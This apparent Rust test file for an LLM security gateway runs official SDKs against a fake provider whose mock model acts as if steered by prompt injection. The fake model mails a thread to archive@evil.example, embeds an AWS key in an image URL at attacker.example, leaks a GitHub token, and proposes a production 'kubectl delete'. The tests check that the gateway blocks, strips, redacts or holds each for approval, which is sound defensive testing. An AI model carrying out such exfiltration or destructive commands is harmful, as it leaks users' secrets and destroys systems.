//! The model gateway, driven by the official OpenAI Python SDK (`openai` from PyPI), in front of
//! a fake provider written for these tests: it records what it receives and answers with the
//! placeholders it was sent, in whole replies and in streams cut inside placeholders.

#[path = "../common/mod.rs"]
mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;
use std::sync::{Arc, Mutex};

use bulwark_core::SecurityConfig;
use bulwark_core::config::SecretRef;
use bulwark_core::gateway::budget::BudgetConfig;
use bulwark_core::gateway::cfg::{UpstreamApi, UpstreamConfig};
use common::*;
use serde_json::{Value, json};

const KEY: &str = "AKIAQYLPMN5HFIQR7XYZ";
const UPSTREAM_KEY: &str = "sk-upstream-test-0123456789";
/// A token the model writes that no request carried.
const GITHUB_TOKEN: &str = "ghp_R7kQ2mX9vB4nT8wL1pZ6cY3hJ5dF0sA2gE9u";

/// What the fake provider received: (headers, body).
type Received = Arc<Mutex<Vec<(String, Value)>>>;

/// The placeholders in a text, in order of first appearance.
fn placeholders(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for (i, _) in text.match_indices('[') {
        let rest = &text[i + 1..];
        let Some(end) = rest.find(']') else { continue };
        let inner = &rest[..end];
        let ok = inner.split_once('#').is_some_and(|(r, n)| {
            !r.is_empty()
                && r.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
                && !n.is_empty()
                && n.bytes().all(|b| b.is_ascii_digit())
        });
        let p = format!("[{inner}]");
        if ok && !out.contains(&p) {
            out.push(p);
        }
    }
    out
}

fn fake_provider() -> (String, Received) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/v1", l.local_addr().unwrap());
    let received: Received = Arc::default();
    let r = received.clone();
    std::thread::spawn(move || {
        for conn in l.incoming().flatten() {
            let r = r.clone();
            std::thread::spawn(move || serve_one(conn, &r));
        }
    });
    (url, received)
}

fn serve_one(mut conn: TcpStream, received: &Received) {
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut head = String::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 {
            return;
        }
        if line == "\r\n" {
            break;
        }
        head.push_str(&line);
    }
    let len: usize = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("content-length:")
                .map(|v| v.trim().parse().unwrap())
        })
        .unwrap_or(0);
    let mut body = vec![0; len];
    reader.read_exact(&mut body).unwrap();
    if head.starts_with("GET /v1/models ") {
        // Each API's list shape; the gateway keeps what the upstream's `models` name.
        let anthropic = head.to_ascii_lowercase().contains("anthropic-version:");
        let list = if anthropic {
            json!({"data": [
                {"type": "model", "id": "claude-sonnet-4", "display_name": "Claude Sonnet 4", "created_at": "2025-05-14T00:00:00Z"},
                {"type": "model", "id": "legacy-model", "display_name": "Legacy", "created_at": "2024-01-01T00:00:00Z"}
            ], "has_more": false, "first_id": "claude-sonnet-4", "last_id": "legacy-model"})
        } else {
            json!({"object": "list", "data": [
                {"id": "gpt-4o-mini", "object": "model", "created": 1, "owned_by": "openai"},
                {"id": "text-embedding-3-small", "object": "model", "created": 1, "owned_by": "openai"}
            ]})
        }
        .to_string();
        let _ = write!(
            conn,
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{list}",
            list.len()
        );
        return;
    }
    let body: Value = serde_json::from_slice(&body).unwrap();
    received.lock().unwrap().push((head.clone(), body.clone()));
    // The gateway talks to the provider as its SDK would: origin-form, the API's own path.
    assert!(
        head.starts_with("POST /v1/messages ")
            || head.starts_with("POST /v1/chat/completions ")
            || head.starts_with("POST /v1/responses "),
        "{head}"
    );
    if head.starts_with("POST /v1/messages ") {
        return anthropic_reply(conn, &body);
    }
    if head.starts_with("POST /v1/responses ") {
        return responses_reply(conn, &body);
    }
    let model = body["model"].as_str().unwrap_or_default().to_string();
    if model == "rate-limited" {
        let e = json!({"error": {"message": "Rate limit reached for requests", "type": "requests", "param": null, "code": "rate_limit_exceeded"}}).to_string();
        let _ = write!(
            conn,
            "HTTP/1.1 429 Too Many Requests\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{e}",
            e.len()
        );
        return;
    }
    let seen = placeholders(&body["messages"].to_string());
    let email = seen
        .iter()
        .find(|p| p.starts_with("[email#"))
        .cloned()
        .unwrap_or_default();
    let key = seen
        .iter()
        .find(|p| p.starts_with("[aws-access-key-id#"))
        .cloned()
        .unwrap_or_default();
    let (content, tool, args) = proposal(&model, &email, &key);
    let args = args.to_string();
    if body["stream"] != json!(true) {
        let reply = json!({
            "id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": model,
            "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {
                "role": "assistant", "content": content,
                "tool_calls": [{"id": "call_2", "type": "function", "function": {"name": tool, "arguments": args}}]
            }}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
        })
        .to_string();
        let _ = write!(
            conn,
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{reply}",
            reply.len()
        );
        return;
    }
    let _ = write!(
        conn,
        "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n"
    );
    let mut send = |data: &str| {
        let event = format!("data: {data}\n\n");
        let _ = write!(conn, "{:x}\r\n{event}\r\n", event.len());
        let _ = conn.flush();
        std::thread::sleep(std::time::Duration::from_millis(2));
    };
    let chunk = |delta: Value, finish: Value| {
        json!({"id": "chatcmpl-2", "object": "chat.completion.chunk", "created": 1, "model": model,
               "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
        .to_string()
    };
    send(&chunk(
        json!({"role": "assistant", "content": ""}),
        Value::Null,
    ));
    // Three bytes at a time: every placeholder is cut.
    let bytes: Vec<char> = content.chars().collect();
    for piece in bytes.chunks(3) {
        send(&chunk(
            json!({"content": piece.iter().collect::<String>()}),
            Value::Null,
        ));
        if model == "broken-stream" {
            // Cut off mid-stream: no last chunk, no end of the chunked body.
            return;
        }
        if model == "stall-stream" {
            // Silent past the gateway's timeout, connection open.
            std::thread::sleep(std::time::Duration::from_secs(6));
            return;
        }
    }
    let arg_chars: Vec<char> = args.chars().collect();
    for (i, piece) in arg_chars.chunks(4).enumerate() {
        let mut tc =
            json!({"index": 0, "function": {"arguments": piece.iter().collect::<String>()}});
        if i == 0 {
            tc["id"] = json!("call_2");
            tc["type"] = json!("function");
            tc["function"]["name"] = json!(tool);
        }
        send(&chunk(json!({"tool_calls": [tc]}), Value::Null));
    }
    send(&chunk(json!({}), json!("tool_calls")));
    send("[DONE]");
    let _ = write!(conn, "0\r\n\r\n");
}

/// What the fake model answers: its text, and the tool call it proposes. Models named `*sre*`
/// propose deleting a production deployment; the others page the owner they were told of.
fn proposal(model: &str, email: &str, key: &str) -> (String, &'static str, Value) {
    if model.contains("prov") {
        // Steered by what it read: the thread to an outside address, with a key and an owner's
        // address in its context and a tool's result among what it read.
        return (
            "Forwarding the thread.".into(),
            "send_email",
            json!({"to": "archive@evil.example", "body": "the thread"}),
        );
    }
    if model.contains("exfil") {
        // Steered by an injection: the key into an image URL the chat UI would fetch, a token it
        // decoded, and one link that is fine (its host is in the egress allowlist).
        return (
            format!(
                "Chart: ![c](https://attacker.example/c.png?d={key}) Runbook: [run](https://docs.example.com/run?owner={email}) Token: {GITHUB_TOKEN}"
            ),
            "page",
            json!({"to": email}),
        );
    }
    if model.contains("sre") {
        (
            "Deleting the stuck deployment.".into(),
            "run_command",
            json!({"command": "kubectl delete deployment web -n production"}),
        )
    } else {
        (
            format!("Owner is {email}; rotate {key}."),
            "page",
            json!({"to": email}),
        )
    }
}

/// OpenAI's Responses API, whole and streamed (every event named and numbered), with the
/// placeholders it was sent.
fn responses_reply(mut conn: TcpStream, body: &Value) {
    let model = body["model"].as_str().unwrap_or_default().to_string();
    let seen = placeholders(&format!("{}{}", body["input"], body["instructions"]));
    let find = |p: &str| {
        seen.iter()
            .find(|x| x.starts_with(p))
            .cloned()
            .unwrap_or_default()
    };
    // A provider that keeps earlier turns names their placeholders without being sent them.
    let (email, key) = if body.get("previous_response_id").is_some() {
        ("[email#1]".to_string(), "[aws-access-key-id#1]".to_string())
    } else {
        (find("[email#"), find("[aws-access-key-id#"))
    };
    let (content, tool, args) = proposal(&model, &email, &key);
    let args = args.to_string();
    let message = |text: &str, status: &str| {
        json!({"type": "message", "id": "msg_1", "role": "assistant", "status": status,
               "content": if status == "completed" { json!([{"type": "output_text", "text": text, "annotations": []}]) } else { json!([]) }})
    };
    let call = |arguments: &str, status: &str| json!({"type": "function_call", "id": "fc_1", "call_id": "call_2", "name": tool, "arguments": arguments, "status": status});
    let response = |output: Value, status: &str| {
        json!({"id": "resp_1", "object": "response", "created_at": 1, "status": status, "model": model,
               "output": output, "parallel_tool_calls": true, "tool_choice": "auto", "tools": [],
               "error": null, "incomplete_details": null, "instructions": null, "metadata": {},
               "usage": {"input_tokens": 10, "output_tokens": 5, "total_tokens": 15,
                         "input_tokens_details": {"cached_tokens": 0}, "output_tokens_details": {"reasoning_tokens": 0}}})
    };
    let whole = response(
        json!([message(&content, "completed"), call(&args, "completed")]),
        "completed",
    );
    if body["stream"] != json!(true) {
        let reply = whole.to_string();
        let _ = write!(
            conn,
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{reply}",
            reply.len()
        );
        return;
    }
    let _ = write!(
        conn,
        "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n"
    );
    let mut seq = 0;
    let mut send = |mut data: Value| {
        data["sequence_number"] = json!(seq);
        seq += 1;
        let event = format!(
            "event: {}\ndata: {data}\n\n",
            data["type"].as_str().unwrap()
        );
        let _ = write!(conn, "{:x}\r\n{event}\r\n", event.len());
        let _ = conn.flush();
        std::thread::sleep(std::time::Duration::from_millis(2));
    };
    send(json!({"type": "response.created", "response": response(json!([]), "in_progress")}));
    send(
        json!({"type": "response.output_item.added", "output_index": 0, "item": message("", "in_progress")}),
    );
    send(
        json!({"type": "response.content_part.added", "item_id": "msg_1", "output_index": 0, "content_index": 0, "part": {"type": "output_text", "text": "", "annotations": []}}),
    );
    let chars: Vec<char> = content.chars().collect();
    for piece in chars.chunks(3) {
        send(
            json!({"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 0, "content_index": 0, "delta": piece.iter().collect::<String>(), "logprobs": []}),
        );
        if model == "gpt-broken-responses" {
            return;
        }
    }
    send(
        json!({"type": "response.output_text.done", "item_id": "msg_1", "output_index": 0, "content_index": 0, "text": content, "logprobs": []}),
    );
    send(
        json!({"type": "response.content_part.done", "item_id": "msg_1", "output_index": 0, "content_index": 0, "part": {"type": "output_text", "text": content, "annotations": []}}),
    );
    send(
        json!({"type": "response.output_item.done", "output_index": 0, "item": message(&content, "completed")}),
    );
    send(
        json!({"type": "response.output_item.added", "output_index": 1, "item": call("", "in_progress")}),
    );
    let arg_chars: Vec<char> = args.chars().collect();
    for piece in arg_chars.chunks(4) {
        send(
            json!({"type": "response.function_call_arguments.delta", "item_id": "fc_1", "output_index": 1, "delta": piece.iter().collect::<String>()}),
        );
    }
    send(
        json!({"type": "response.function_call_arguments.done", "item_id": "fc_1", "output_index": 1, "arguments": args}),
    );
    send(
        json!({"type": "response.output_item.done", "output_index": 1, "item": call(&args, "completed")}),
    );
    send(json!({"type": "response.completed", "response": whole}));
    let _ = write!(conn, "0\r\n\r\n");
}

/// Anthropic's Messages API, whole and streamed (every event named), with the placeholders sent.
fn anthropic_reply(mut conn: TcpStream, body: &Value) {
    let model = body["model"].as_str().unwrap_or_default().to_string();
    let seen = placeholders(&body["messages"].to_string());
    let email = seen
        .iter()
        .find(|p| p.starts_with("[email#"))
        .cloned()
        .unwrap_or_default();
    let key = seen
        .iter()
        .find(|p| p.starts_with("[aws-access-key-id#"))
        .cloned()
        .unwrap_or_default();
    let (content, tool, input) = proposal(&model, &email, &key);
    if body["stream"] != json!(true) {
        let reply = json!({
            "id": "msg_1", "type": "message", "role": "assistant", "model": model,
            "content": [{"type": "text", "text": content}, {"type": "tool_use", "id": "toolu_2", "name": tool, "input": input}],
            "stop_reason": "tool_use", "stop_sequence": null,
            "usage": {"input_tokens": 10, "output_tokens": 5}
        })
        .to_string();
        let _ = write!(
            conn,
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{reply}",
            reply.len()
        );
        return;
    }
    let _ = write!(
        conn,
        "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n"
    );
    let mut send = |name: &str, data: Value| {
        let event = format!("event: {name}\ndata: {data}\n\n");
        let _ = write!(conn, "{:x}\r\n{event}\r\n", event.len());
        let _ = conn.flush();
        std::thread::sleep(std::time::Duration::from_millis(2));
    };
    send(
        "message_start",
        json!({"type": "message_start", "message": {"id": "msg_2", "type": "message", "role": "assistant", "model": model, "content": [], "stop_reason": null, "stop_sequence": null, "usage": {"input_tokens": 10, "output_tokens": 1}}}),
    );
    send(
        "content_block_start",
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
    );
    let chars: Vec<char> = content.chars().collect();
    for piece in chars.chunks(3) {
        send(
            "content_block_delta",
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece.iter().collect::<String>()}}),
        );
        if model == "claude-broken" {
            return;
        }
    }
    send(
        "content_block_stop",
        json!({"type": "content_block_stop", "index": 0}),
    );
    send(
        "content_block_start",
        json!({"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "toolu_2", "name": tool, "input": {}}}),
    );
    let json_chars: Vec<char> = input.to_string().chars().collect();
    for piece in json_chars.chunks(4) {
        send(
            "content_block_delta",
            json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece.iter().collect::<String>()}}),
        );
    }
    send(
        "content_block_stop",
        json!({"type": "content_block_stop", "index": 1}),
    );
    send(
        "message_delta",
        json!({"type": "message_delta", "delta": {"stop_reason": "tool_use", "stop_sequence": null}, "usage": {"output_tokens": 5}}),
    );
    send("message_stop", json!({"type": "message_stop"}));
    let _ = write!(conn, "0\r\n\r\n");
}

#[test]
fn the_anthropic_sdk_through_the_gateway() {
    if !python_sdk("anthropic", "BULWARK_REQUIRE_ANTHROPIC") {
        return;
    }
    let (upstream, received) = fake_provider();
    // The SDK adds /v1/messages to its base URL itself.
    let (s, got) = run_client(
        UpstreamApi::Anthropic,
        upstream,
        &["claude-*"],
        300,
        "anthropic_client.py",
        "",
    );
    let content = format!("Owner is ops@example.com; rotate {KEY}.");
    for case in ["whole", "stream"] {
        assert_eq!(got[case]["content"], json!(content), "{case}: {got}");
        assert_eq!(
            got[case]["input"],
            json!({"to": "ops@example.com"}),
            "{case}: {got}"
        );
    }
    assert_eq!(got["whole"]["usage"], 5);
    assert_eq!(got["models"], json!(["claude-sonnet-4"]), "{got}");
    assert_eq!(
        got["injected"],
        json!({"status": 400, "blocked": true}),
        "{got}"
    );
    assert_eq!(
        got["bad"],
        json!({"status": 400, "names_field": true}),
        "{got}"
    );
    assert!(
        got["broken"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("broke off")),
        "{got}"
    );
    exfil_neutralised(&got, &["exfil_whole", "exfil_stream"]);
    sre_withheld_then_passed_once(
        &got,
        ["sre_whole", "sre_stream"],
        "end_turn",
        "tool_use",
        &|a| a.clone(),
    );
    over_budget(&got);
    let received = received.lock().unwrap();
    assert_eq!(
        received.len(),
        12,
        "whole, stream, broken, 2 x 3 sre turns, 2 exfil, one budget request"
    );
    for (head, body) in received.iter() {
        let text = body.to_string();
        assert!(
            !text.contains("ops@example.com") && !text.contains(KEY),
            "{text}"
        );
        let lower = head.to_ascii_lowercase();
        assert!(
            lower.contains(&format!("x-api-key: {UPSTREAM_KEY}").to_ascii_lowercase()),
            "{head}"
        );
        assert!(lower.contains("anthropic-version: "), "{head}");
        assert!(!head.contains(&s.tokens["agent"]));
    }
}

/// A proposed `kubectl delete` in production: withheld with a pending approval named, then,
/// once approved, passed once; proposed a third time it is withheld again. Whole and streamed.
/// `args` reads a call's arguments as the SDK gave them.
fn sre_withheld_then_passed_once(
    got: &Value,
    cases: [&str; 2],
    stopped: &str,
    called: &str,
    args: &dyn Fn(&Value) -> Value,
) {
    let command = "kubectl delete deployment web -n production";
    for case in cases {
        let c = &got[case];
        for turn in ["withheld", "again"] {
            let t = &c[turn];
            assert_eq!(t["calls"], json!([]), "{case} {turn}: {c}");
            let text = t["content"].as_str().unwrap();
            assert!(
                text.starts_with("Deleting the stuck deployment.")
                    && text.contains("[bulwark] The tool call `run_command` (shell run)"),
                "{case} {turn}: {text}"
            );
            assert!(
                text.contains("needs approval") && text.contains("bulwark approvals approve"),
                "{text}"
            );
            assert_eq!(t["finish"], stopped, "{case} {turn}: {c}");
        }
        assert_eq!(c["approved"], command, "{case}: {c}");
        let after = &c["after"];
        assert_eq!(after["finish"], called, "{case}: {c}");
        assert_eq!(after["calls"].as_array().unwrap().len(), 1, "{case}: {c}");
        assert_eq!(after["calls"][0][0], "run_command");
        assert_eq!(
            args(&after["calls"][0][1]),
            json!({"command": command}),
            "{case}: {c}"
        );
        assert_eq!(
            after["content"], "Deleting the stuck deployment.",
            "{case}: {c}"
        );
    }
}

/// What a steered model wrote, as the agent got it: the image URL carrying the key removed, the
/// link to an allowed host kept with its value back, the token redacted.
fn exfil_neutralised(got: &Value, cases: &[&str]) {
    for case in cases {
        let text = got[case]
            .as_str()
            .unwrap_or_else(|| panic!("{case}: {got}"));
        assert!(
            text.starts_with(
                "Chart: ![c](#bulwark-removed) Runbook: [run](https://docs.example.com/run?owner=ops@example.com) Token: [REDACTED:"
            ) && !text.contains("ghp_"),
            "{case}: {text}"
        );
    }
}

/// The second request of a day to a model with a one-request budget: 429 with `Retry-After`,
/// which the SDK raises as RateLimitError.
fn over_budget(got: &Value) {
    let b = &got["budget"];
    assert_eq!(b["status"], 429, "{got}");
    let retry: u64 = b["retry_after"].as_str().unwrap().parse().unwrap();
    assert!((1..=86_400).contains(&retry), "{b}");
    assert!(
        b["message"]
            .as_str()
            .unwrap()
            .contains("gateway.budgets[0].requests_per_day"),
        "{b}"
    );
}

/// Whether python3 imports the SDK `module`; when `require` is set (as `.ci/run` does), it must.
fn python_sdk(module: &str, require: &str) -> bool {
    let ok = Command::new("python3")
        .args(["-c", &format!("import {module}")])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(
            std::env::var_os(require).is_none(),
            "{require} is set but python3 cannot import {module}"
        );
        eprintln!(
            "notice: the {module} Python SDK is missing (pip install {module}): skipping its gateway test"
        );
    }
    ok
}

/// A sidecar with the gateway on and one upstream `api` at `url` serving `models`, its key in a
/// file; and a client run with the sidecar's `base` URL and the agent's token: what it printed.
fn run_client(
    api: UpstreamApi,
    url: String,
    models: &[&str],
    timeout_secs: u64,
    script: &str,
    base_path: &str,
) -> (Server, Value) {
    let keys = tempfile::tempdir().unwrap();
    let key_file = keys.path().join("provider-key");
    std::fs::write(&key_file, format!("{UPSTREAM_KEY}\n")).unwrap();
    let mut cfg = SecurityConfig::default();
    cfg.gateway.enabled = true;
    cfg.gateway.timeout_secs = timeout_secs;
    cfg.gateway.upstreams.insert(
        "provider".into(),
        UpstreamConfig {
            url: url.parse().unwrap(),
            api,
            api_key: SecretRef::File(key_file),
            pass_through_key: false,
            models: models.iter().map(|m| m.to_string()).collect(),
        },
    );
    // Proposed calls are judged: paging someone is a read here; a destructive command waits
    // for an approver (supervised mode, the production tier).
    cfg.action.mode = bulwark_core::action::cfg::ActionMode::Supervised;
    cfg.action.tools.insert(
        "page".into(),
        bulwark_core::action::cfg::ToolClassesConfig {
            read: vec!["call".into()],
            ..Default::default()
        },
    );
    // Links the model writes may carry data only to hosts in the egress allowlist.
    cfg.egress.allow_domains = vec!["docs.example.com".into()];
    // One request a day for the models named `*budget*`.
    cfg.gateway.budgets.push(BudgetConfig {
        model: "*budget*".into(),
        requests_per_day: 1,
        ..BudgetConfig::default()
    });
    let s = start(
        cfg,
        &[
            ("agent", "gateway"),
            ("auditor", "audit"),
            ("scanner", "scan"),
            ("oncall", "approve"),
        ],
    );
    let base = s.url(base_path);
    let out = Command::new("python3")
        .arg(format!(
            "{}/tests/gateway/{script}",
            env!("CARGO_MANIFEST_DIR")
        ))
        .args([
            base.trim_end_matches('/'),
            &s.tokens["agent"],
            &s.url("/v1/approvals"),
            &s.tokens["oncall"],
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let got: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));
    drop(keys);
    (s, got)
}

#[test]
fn the_openai_sdk_through_the_gateway() {
    if !python_sdk("openai", "BULWARK_REQUIRE_OPENAI") {
        return;
    }
    let (upstream, received) = fake_provider();
    // A stream silent for 4 s ends with the API's error event (the provider sleeps 6 s; every
    // other exchange has 4 s too, room on a loaded machine).
    let (s, got) = run_client(
        UpstreamApi::Openai,
        upstream,
        &[
            "gpt-*",
            "sre-*",
            "prov-*",
            "exfil-*",
            "rate-limited",
            "broken-stream",
            "stall-stream",
        ],
        4,
        "openai_client.py",
        "/v1",
    );

    // The agent sees the values, in whole replies and in streams cut inside placeholders.
    let content = format!("Owner is ops@example.com; rotate {KEY}.");
    let args = json!({"to": "ops@example.com"});
    for case in ["whole", "stream"] {
        assert_eq!(got[case]["content"], json!(content), "{case}: {got}");
        let a: Value = serde_json::from_str(got[case]["args"].as_str().unwrap()).unwrap();
        assert_eq!(a, args, "{case}");
    }
    // The provenance rules: mail to an outside address, proposed after a tool's result with a
    // key in the context, is refused (the lethal trifecta); the SDK sees the reason as text.
    for case in ["provenance_whole", "provenance_stream"] {
        let g = &got[case];
        assert_eq!(g["calls"], 0, "{case}: {g}");
        assert_eq!(g["finish"], "stop", "{case}: {g}");
        let text = g["content"].as_str().unwrap_or_default();
        assert!(
            text.contains("[bulwark] The tool call `send_email`")
                && text.contains("sends data out while the context holds both untrusted content (tool:lookup_owner"),
            "{case}: {text}"
        );
    }
    assert_eq!(got["whole"]["usage"], 15);
    assert_eq!(got["models"], json!(["gpt-4o-mini"]), "{got}");
    // Placeholders typed into a request are not values: a reply gets back only what its own
    // request carried, even when two conversations share a map.
    assert_eq!(
        got["typed"],
        json!("Owner is [email#1]; rotate [aws-access-key-id#1].")
    );
    // An injected tool result never reaches the model; the SDK raises BadRequestError.
    assert_eq!(
        got["injected"],
        json!({"status": 400, "code": "bulwark_injection_blocked"}),
        "{got}"
    );
    assert_eq!(
        got["bad"],
        json!({"status": 400, "param": "messages"}),
        "{got}"
    );
    // The provider's own errors pass through in its shape.
    assert_eq!(got["limited"]["status"], 429, "{got}");
    assert!(
        got["limited"]["message"]
            .as_str()
            .unwrap()
            .contains("Rate limit reached"),
        "{got}"
    );
    // A stream the provider drops ends with the API's error event, which the SDK raises.
    assert!(
        got["broken"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("broke off")),
        "{got}"
    );
    assert_eq!(
        got["unknown_model"],
        json!({"status": 404, "code": "model_not_found"}),
        "{got}"
    );
    assert!(
        got["stalled"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("sent nothing for 4 s")),
        "{got}"
    );

    // The provider never saw a value, nor the agent's Bulwark token; it got its own key.
    let parsed = |a: &Value| serde_json::from_str::<Value>(a.as_str().unwrap()).unwrap();
    sre_withheld_then_passed_once(
        &got,
        ["sre_whole", "sre_stream"],
        "stop",
        "tool_calls",
        &parsed,
    );
    exfil_neutralised(
        &got,
        &[
            "exfil_whole",
            "exfil_stream",
            "exfil_responses_whole",
            "exfil_responses_stream",
            "exfil_responses_final",
        ],
    );
    // The pair's budget is spent for the Responses API too; a body over max_body_bytes is a 413
    // in the API's shape.
    assert_eq!(
        got["responses_budget"],
        json!({"status": 429, "code": "rate_limit_exceeded"}),
        "{got}"
    );
    assert_eq!(
        got["too_large"],
        json!({"status": 413, "code": "request_too_large"}),
        "{got}"
    );
    // The Responses API: the same, whole and streamed.
    for case in ["responses_whole", "responses_stream"] {
        assert_eq!(got[case]["content"], json!(content), "{case}: {got}");
        assert_eq!(parsed(&got[case]["args"]), args, "{case}");
    }
    assert_eq!(got["responses_whole"]["usage"], 15);
    assert_eq!(got["responses_stream"]["final_content"], json!(content));
    assert_eq!(parsed(&got["responses_stream"]["final_args"]), args);
    assert_eq!(got["responses_continued"], json!(content), "{got}");
    assert_eq!(
        got["responses_injected"],
        json!({"status": 400, "code": "bulwark_injection_blocked", "param": "input"}),
        "{got}"
    );
    assert_eq!(
        got["responses_bad"],
        json!({"status": 400, "param": "input[0].role"}),
        "{got}"
    );
    assert!(
        got["responses_broken"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("broke off")),
        "{got}"
    );
    sre_withheld_then_passed_once(
        &got,
        ["responses_sre_whole", "responses_sre_stream"],
        "stop",
        "tool_calls",
        &parsed,
    );
    over_budget(&got);
    let received = received.lock().unwrap();
    assert_eq!(
        received.len(),
        13 + 4 + 6 + 4 + 2,
        "chat: whole, stream, typed, rate-limited, broken, stalled, 2 x 3 sre turns, one budget \
         request; responses: whole, stream, continued, broken, 2 x 3 sre turns; 4 exfil; 2 provenance"
    );
    for (head, body) in received.iter() {
        let text = body.to_string();
        assert!(
            !text.contains("ops@example.com") && !text.contains(KEY),
            "{text}"
        );
        assert!(
            body["model"].as_str().unwrap().starts_with("sre-")
                || body.get("previous_response_id").is_some()
                || (text.contains("[email#") && text.contains("[aws-access-key-id#1]")),
            "{text}"
        );
        assert!(
            head.to_ascii_lowercase()
                .contains(&format!("authorization: bearer {UPSTREAM_KEY}").to_ascii_lowercase()),
            "{head}"
        );
        assert!(!head.contains(&s.tokens["agent"]));
    }
    drop(received);

    // One audit record per exchange, with counts and verdicts, never the prompt.
    let page = s.get("/v1/audit?limit=1000", &s.tokens["auditor"]);
    assert_eq!(page.status, 200, "{}", page.text);
    let exchanges: Vec<&Value> = page.body["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["action"] == "gateway.exchange")
        .collect();
    let outcomes: Vec<&str> = exchanges
        .iter()
        .map(|r| r["outcome"].as_str().unwrap())
        .collect();
    for o in ["ok", "blocked", "invalid", "upstream_status", "no_upstream"] {
        assert!(outcomes.contains(&o), "{o} in {outcomes:?}");
    }
    assert!(!page.text.contains("ops@example.com") && !page.text.contains(KEY));
    let ok = exchanges
        .iter()
        .find(|r| r["outcome"] == "ok" && r["details"]["stream"] == false)
        .unwrap();
    assert_eq!(ok["details"]["redacted"], 2, "{ok}");
    assert_eq!(ok["details"]["usage"]["total_tokens"], 15);
    // The calls judged are in their exchange's record: withheld ones with their approval, the
    // one that passed after approval too; streams are recorded when they end.
    let judged: Vec<&Value> = exchanges
        .iter()
        .filter(|r| r["resource"] == "sre-copilot")
        .flat_map(|r| r["details"]["tool_calls"].as_array().unwrap())
        .collect();
    assert_eq!(judged.len(), 6, "{judged:?}");
    assert_eq!(judged.iter().filter(|c| c["passed"] == true).count(), 2);
    for c in &judged {
        assert_eq!(c["function"], "run_command");
        assert_eq!(c["verdict"], "review");
        assert!(c["approval"].as_str().is_some_and(|a| !a.is_empty()), "{c}");
    }
    assert!(
        exchanges
            .iter()
            .any(|r| r["outcome"] == "over_budget" && r["details"]["status"] == 429)
    );
    // The approvals the calls made, and the ones they consumed.
    assert!(outcomes.contains(&"ok"));
    let approvals: Vec<&Value> = page.body["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["action"] == "approval.consume" && r["outcome"] == "executed")
        .collect();
    assert_eq!(
        approvals.len(),
        4,
        "one consumed per approved turn: chat and responses, whole and streamed"
    );

    // A token without the scope is refused.
    let a = s.post(
        "/v1/chat/completions",
        &s.tokens["scanner"],
        r#"{"model":"gpt-4o","messages":[]}"#,
    );
    assert_eq!(a.status, 403, "{}", a.text);
}
